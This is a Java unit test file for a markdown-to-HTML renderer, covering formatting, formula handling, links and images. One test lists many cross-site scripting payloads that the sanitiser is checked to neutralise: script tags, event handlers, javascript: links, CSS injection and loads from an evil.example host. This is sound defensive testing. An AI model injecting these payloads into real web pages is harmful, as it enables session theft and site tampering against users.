package org.ganbook.markdown;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.Map;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTextTest {

    private static final String PNG = "data:image/png;base64,iVBORw0KGgo=";

    private static String html(String markdown) {
        return MarkdownText.html(markdown, Map.of("plot 1.png", PNG)).strip();
    }

    private static String formula(String tex) {
        return "<gb-formula>" + tex + "</gb-formula>";
    }

    private static String display(String tex) {
        return "<gb-formula display>" + tex + "</gb-formula>";
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '"',
            value = {
                "*a* **b** ~~c~~ `d`, <p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>",
                "# Title *two*, \"<h1 id=\"\"text-Title-two\"\">Title <em>two</em></h1>\"",
                "你␊好, <p>你好</p>",
                "<center>middle</center>, <center>middle</center>",
                "\"<font color=\"\"red\"\">hot</font>\", \"<p><font color=\"\"red\"\">hot</font></p>\"",
                "\"<div align=\"\"center\"\">a</div>\", \"<div align=\"\"center\"\">a</div>\"",
                "\"<p style=\"\"text-align: center; position: fixed\"\">a</p>\", \"<p style=\"\"text-align:center;\"\">a</p>\"",
            })
    void reads(String markdown, String expected) {
        assertEquals(expected, html(markdown.replace('␊', '\n')));
    }

    @Test
    void readsTablesListsAndTasks() {
        assertTrue(html("| a | b |\n|---|---|\n| 1 | $x$ |").contains("<td>" + formula("x") + "</td>"));
        assertEquals(
                1,
                Jsoup.parse(html("|   | b |\n|---|---|\n| c | 1 |"))
                        .select("th")
                        .size());
        Element list = Jsoup.parse(html("- [x] done\n- [ ] to do\n- plain"));
        assertEquals(2, list.select("li > input[type=checkbox][disabled]").size());
        assertEquals(1, list.select("input[checked]").size());
        assertEquals("done", list.select("li").eachText().getFirst());
    }

    @Test
    void formulasAreTakenOutBeforeMarkdownIsRead() {
        assertEquals("<p>so " + formula("a_1 * b_2 * c_3") + " it is</p>", html("so $a_1 * b_2 * c_3$ it is"));
        assertEquals("<p>" + formula("x&lt;y") + "</p>", html("$x<y$"));
        assertEquals("<p>" + display("\\min_G \\max_D V") + "</p>", html("$$\n\\min_G \\max_D V\n$$"));
        assertEquals(
                "<p>" + display("a &amp;= b\\\\\n- c") + "</p>",
                html("$$\na &= b\\\\\n- c\n$$"),
                "no list begins in it");
        assertEquals("<p>a " + display("x") + " b</p>", html("a $$x$$ b"));
        assertEquals("<p>" + formula("x^2") + " and " + display("y_1") + "</p>", html("\\(x^2\\) and \\[y_1\\]"));
        assertEquals(
                "<p>" + formula("x^2") + " and " + display("y_1") + "</p>", html("\\\\(x^2\\\\) and \\\\[y_1\\\\]"));
        assertEquals("<p>" + formula("x") + " and " + formula("n=2") + "</p>", html("$ x $ and $ n=2 $"));
        assertEquals(
                "<p>" + display("\\begin{align}\na &amp;= b\\\\[2pt]\n&amp;= c\n\\end{align}") + "</p>",
                html("\\begin{align}\na &= b\\\\[2pt]\n&= c\n\\end{align}"));
        assertEquals(
                "<p>" + display("\\begin{array}{rcl}a&amp;=&amp;b\\end{array}") + "</p>",
                html("\\begin{eqnarray}a&=&b\\end{eqnarray}"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "from $ 5 to $ 10",
                "US$10 and US$20",
                "one $ alone",
                "$$ never closed",
                "$a\n\nb$",
                "\\begin{align} never closed",
            })
    void dollarsThatAreMoneyStayText(String markdown) {
        assertTrue(!html(markdown).contains("gb-formula"), html(markdown));
        assertEquals(
                markdown.replaceAll("\\s+", " "),
                Jsoup.parse(html(markdown)).text().replaceAll("\\s+", " "));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "`$x$`",
                "``a ` $x$``",
                "```\n$x$ and $y$\n```",
                "~~~python\ncost = '$x$'\n~~~\n",
                "    indented $x$",
                "- item\n\n  ```\n  $x$\n  ```",
                "<pre>$x$</pre>"
            })
    void codeHoldsNoFormulas(String markdown) {
        String html = html(markdown);
        assertTrue(html.contains("$x$") && !html.contains("gb-formula"), html);
    }

    @Test
    void bracketsAreBrackets() {
        assertEquals("<p>[1] and (see above)</p>", html("\\[1\\] and \\(see above\\)"));
        assertEquals("<p>$ and *</p>", html("\\$ and \\*"));
    }

    @Test
    void linksLeadOutwardOrWithinTheText() {
        assertEquals(
                "<p><a href=\"https://a.example/\" target=\"_blank\" rel=\"noopener noreferrer\">a</a></p>",
                html("[a](https://a.example/)"));
        assertEquals("<p><a href=\"#text-The-loss\">a</a></p>", html("[a](#The-loss)"));
        assertEquals("<p><a id=\"text-here\"></a>b</p>", html("<a name=\"here\"></a>b"));
        assertEquals("<p><a>other</a></p>", html("[other](02_other.ipynb)"));
        assertEquals(
                "<p>see <a href=\"https://a.example/b_c\" target=\"_blank\" rel=\"noopener noreferrer\">"
                        + "https://a.example/b_c</a>.</p>",
                html("see https://a.example/b_c."));
    }

    @Test
    void picturesAreShownWhenTheyAreHere() {
        assertEquals("<p><img src=\"" + PNG + "\" alt=\"loss\"></p>", html("![loss](attachment:plot%201.png)"));
        assertEquals("<img src=\"" + PNG + "\" width=\"50%\" alt=\"\">", html("<img src='" + PNG + "' width='50%'>"));
        assertEquals("<p>gone</p>", html("![gone](attachment:other.png)"));
    }

    @Test
    void picturesOfOtherSitesBecomeLinks() {
        assertEquals(
                "<p><a href=\"https://a.example/x.png\" target=\"_blank\" rel=\"noopener noreferrer\">"
                        + "a cat (a.example)</a></p>",
                html("![a cat](https://a.example/x.png)"));
        assertEquals(
                "<p><a href=\"https://b.example/\" target=\"_blank\" rel=\"noopener noreferrer\">"
                        + "Open In Colab (a.example)</a></p>",
                html("[![Open In Colab](https://a.example/badge.svg)](https://b.example/)"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=\"data:image/png;base64,AA\" onload=\"alert(1)\">",
                "<img src='data:text/html;base64,PHNjcmlwdD4='>",
                "<img src=javascript:alert(1)>",
                "<img srcset='https://evil.example/a.png 1x' src=''>",
                "<svg onload=alert(1)></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
                "<svg><use href='data:image/svg+xml;base64,AA#x'/></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href=' JaVa\tScRiPt:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href='vbscript:x'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='//evil.example'>x</a>",
                "[x](javascript:alert(1))",
                "[x](<java\tscript:alert(1)>)",
                "![x](javascript:alert(1))",
                "<javascript:alert(1)>",
                "<div style='background:url(https://evil.example/a)'>x</div>",
                "<div style='width:expression(alert(1))'>x</div>",
                "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
                "<div style='color:red;behavior:url(x.htc)'>x</div>",
                "<div style='col/**/or:u\\72l(x)'>x</div>",
                "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(//e.example)}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href='https://evil.example/'>",
                "<iframe src='https://evil.example'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='x.swf'></object><embed src='x.swf'>",
                "<form action='https://evil.example'><input name=a><button formaction=x>Go</button></form>",
                "<textarea autofocus onfocus=alert(1)>",
                "<select onchange=alert(1)><option>x</select>",
                "<video src=https://evil.example/v autoplay onplay=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<p onmouseover=alert(1) id=ganbook-words class=lab-bar name=body>x</p>",
                "<template><script>alert(1)</script></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<gb-cell name=x></gb-cell><gb-formula display>\\href{javascript:alert(1)}{x}</gb-formula>",
                "<a href=\"https://a.example/\" target=_self onclick=alert(1)>x</a>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<img src=\"$<img src=x onerror=alert(1)>$\">",
                "$</gb-formula><script>alert(1)</script>$",
                "<a title=\"$\" onmouseover=alert(1) $\">x</a>",
                "\ue0000\ue001\ue0021\ue003<script>alert(1)</script>",
                "[a](https://a.example/ \"&#xE002;0&#xE003;\") https://a.example/onmouseover=alert(1)/x",
                "# &#xE002;0&#xE003; https://a.example/onmouseover=alert(1)/x",
                "<p title='&#xE000;0&#xE001;'>$\"onmouseover=alert(1) $</p> $\"onmouseover=alert(1)//$",
                "&#xE000;7&#xE001; &#xE000;99999999999&#xE001; &#xE002;7&#xE003;",
                "https://a.example/$\"onmouseover=alert(1)//$",
                "<table background='https://evil.example/a.png'><tr><td background=x>1</td></tr></table>",
                "<input type=image src=https://evil.example/a.png>",
                "<xss style='x' contenteditable autofocus onfocus=alert(1)>",
            })
    void nothingRunsLoadsOrSends(String hostile) {
        assertHarmless(html(hostile));
        assertHarmless(html("text " + hostile + " text\n\n| a |\n|---|\n| " + hostile + " |"));
    }

    private static final Set<String> NEVER = Set.of(
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "button",
            "textarea",
            "select",
            "meta",
            "link",
            "base",
            "video",
            "audio",
            "template",
            "noscript",
            "gb-cell",
            "input",
            "marquee");

    private static void assertHarmless(String html) {
        for (Element element : Jsoup.parseBodyFragment(html).body().select("*")) {
            assertTrue(!NEVER.contains(element.normalName()), html);
            for (Attribute attribute : element.attributes()) {
                String key = attribute.getKey();
                String value = attribute.getValue();
                assertTrue(!key.startsWith("on"), html);
                assertTrue(
                        switch (key) {
                            case "href" -> value.matches("(https?://|mailto:|#text-).*");
                            case "src" -> value.startsWith("data:image/");
                            case "style" -> value.matches("(color:[a-z]+;)?");
                            case "id" -> value.startsWith("text-");
                            case "target" -> value.equals("_blank");
                            default ->
                                Set.of("alt", "title", "rel", "open", "display").contains(key);
                        },
                        html);
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ">",
                "- ",
                "*a ",
                "[",
                "`",
                "$",
                "$ ",
                "\\[",
                "\\(a",
                "<div>",
                "\\begin{align}",
                "{$",
                "![",
                "$$a",
                "<a>",
                "*a* $x$ ",
                "a://b ",
                "`` ` "
            })
    void textsOfOnePieceMadeToTakeLongDoNot(String piece) {
        String text = piece.repeat(200_000 / piece.length());
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> html(text).length());
    }
}
